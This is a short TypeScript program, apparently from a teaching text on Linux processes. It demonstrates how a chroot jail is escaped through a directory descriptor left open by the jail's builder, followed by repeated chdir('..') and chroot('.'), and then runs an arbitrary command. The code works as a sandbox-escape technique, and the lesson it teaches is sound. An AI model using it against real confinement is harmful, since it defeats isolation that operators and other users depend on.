// Breaks out of a jail built with chroot(2).   Run: node way-out.ts JAIL OPEN COMMAND…
import { AT, chdir, chroot, clone, fchdir, type Item, O, openat, resultOf } from '#linux';
import { program, statusOf } from '../../chapters/01-process/program.ts';

const [directory = '', open = '', ...command] = process.argv.slice(2);

/** The descriptor that the jail's builder forgot to close. */
const forgotten = openat(AT.FDCWD, open, O.RDONLY | O.DIRECTORY | O.CLOEXEC, 0);
const jail: Item[] = [forgotten, chroot(directory), chdir('/')];

const prisoner: Item[] = [
  fchdir(resultOf(forgotten)),
  ...Array.from({ length: 64 }, () => chdir('..')),
  chroot('.'),
];

const pid = clone(0, [...jail, ...prisoner, ...program(command)]);
process.exitCode = await statusOf(pid);
